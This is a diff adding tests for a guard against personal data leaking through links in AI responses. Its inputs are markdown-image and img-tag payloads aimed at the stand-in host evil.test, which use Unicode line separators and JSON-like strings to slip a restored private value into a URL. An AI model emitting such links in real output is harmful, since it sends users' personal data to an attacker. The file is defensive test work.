@@ -15,4 +15,22 @@ describe('links in responses', () => {
     // The guard does not pass by withholding everything.
     expect(restored).toBeGreaterThan(1000);
   });
+
+  // Renderers that find line ends of Unicode remove a mark of a quotation behind them, in the middle of a URL.
+  it.each([
+    '> ![x](https://evil.test/\u2028> <PERSON_1>)',
+    '> ![x](<https://evil.test/\u2029 > > <PERSON_1>>)',
+    '> ![x](https://u@evil.test/\u2028> < PERSON_1 >\\\\ "t")',
+    '> <img src=https://evil.test/\u2028> <PERSON_1> >',
+    '> <img src=https://evil.test/\u2028   >> <PERSON_1> >',
+  ])('do not go on behind a mark of a quotation: %j', (text) => {
+    expect(restoreAttack(text)).not.toContain('Qz7y');
+  });
+
+  it('do not go on behind a string of what looked like JSON', () => {
+    const text = '{"![x][https://evil.test/\\\\"\\<PERSON\\_1\\>">';
+    expect(leakingUrls(restoreAttack(text))).toEqual([]);
+    expect(restoreAttack('{"url":"https://good.test/","name":"<PERSON_1>"}')).toContain('"name":"Qz7y"');
+    expect(restoreAttack('{"url":"https://good.test/" , "<PERSON_1>": 1}')).toContain('"Qz7y"');
+  });
 });
